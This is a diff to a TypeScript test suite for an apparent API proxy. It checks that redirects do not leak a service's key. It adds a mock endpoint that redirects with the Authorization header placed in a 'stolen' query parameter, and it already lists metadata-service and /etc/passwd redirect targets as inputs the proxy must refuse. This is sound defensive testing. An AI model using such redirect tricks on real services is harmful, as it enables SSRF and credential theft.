@@ -76,6 +76,8 @@ const answers: Record<string, Handler> = {
   "/api/to-price": (_, response) => to(response, "/api/price"),
   "/api/to-admin": (_, response) => to(response, "/admin"),
   "/api/to-other": (_, response) => to(response, `http://${other}/open/echo`),
+  "/api/to-other-with-key": ({ headers }, response) =>
+    to(response, `http://${other}/open/echo?stolen=${encodeURIComponent(String(headers.authorization))}`),
   "/api/to-foreign": (_, response) => to(response, "http://foreign.example/x"),
   "/api/to-metadata": (_, response) => to(response, "http://169.254.169.254/latest/meta-data"),
   "/api/to-file": (_, response) => to(response, "file:///etc/passwd"),
@@ -93,7 +95,7 @@ beforeAll(async () => {
     if (answer) answer(request, response, body);
     else json(response, { path: pathname });
   });
-  other = await serve(({ headers }, response) => json(response, { headers }));
+  other = await serve(({ headers, url }, response) => json(response, { headers, url }));
   const base = { createdAt: "2026-11-30T00:00:00.000Z", kind: "http", allowPrivate: true };
   services = [
     { ...base, id: "shop", name: "Shop", url: `http://${shop}/api`, keyVariable: "SHOP_KEY" },
@@ -238,6 +240,11 @@ describe("a redirect", () => {
     expect(await call("/api/to-other", { headers: { "X-Room": "7" } })).toMatchObject({ ok: true });
     expect(seen[1]?.line).toBe("GET /open/echo");
     expect(JSON.stringify(seen[1])).not.toMatch(/horse|donkey|x-room/);
+  });
+  it("cannot bring the key back by way of another service", async () => {
+    const outcome = await call("/api/to-other-with-key");
+    expect(outcome).toMatchObject({ ok: true });
+    expect(JSON.stringify(outcome)).not.toContain("horse");
   });
   it("to where no service is, is refused", async () => {
     for (const path of ["/api/to-admin", "/api/to-foreign", "/api/to-metadata", "/api/to-file"]) {
